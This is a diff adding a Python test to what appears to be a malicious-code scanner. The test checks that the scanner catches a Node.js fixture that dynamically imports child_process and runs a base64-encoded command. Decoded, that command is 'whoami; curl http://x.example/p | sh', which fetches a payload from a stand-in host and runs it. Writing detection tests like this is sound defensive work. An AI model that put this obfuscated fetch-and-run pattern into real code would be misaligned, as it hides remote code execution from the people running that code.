@@ -194,6 +194,19 @@ def test_char_codes_and_bracket_access_hide_child_process_exec(tmp_path: Path) -
     assert Kind.EXEC_DECODED in {c.kind for c in found}
 
 
+def test_dynamic_import_of_child_process(tmp_path: Path) -> None:
+    found = analyse(
+        tmp_path,
+        "const { execSync } = await import('node:child_process');\n"
+        "execSync(Buffer.from('d2hvYW1pOyBjdXJsIGh0dHA6Ly94LmV4YW1wbGUvcCB8IHNo', 'base64').toString());\n",
+        name="scripts/run.mjs",
+    )
+    assert chain(found, Kind.EXEC_DECODED) == [
+        (2, "decodes base64"),
+        (2, "runs what it decoded (child_process.execSync)"),
+    ]
+
+
 def test_persistence_in_zshrc_and_launch_agents(tmp_path: Path) -> None:
     found = analyse(
         tmp_path,
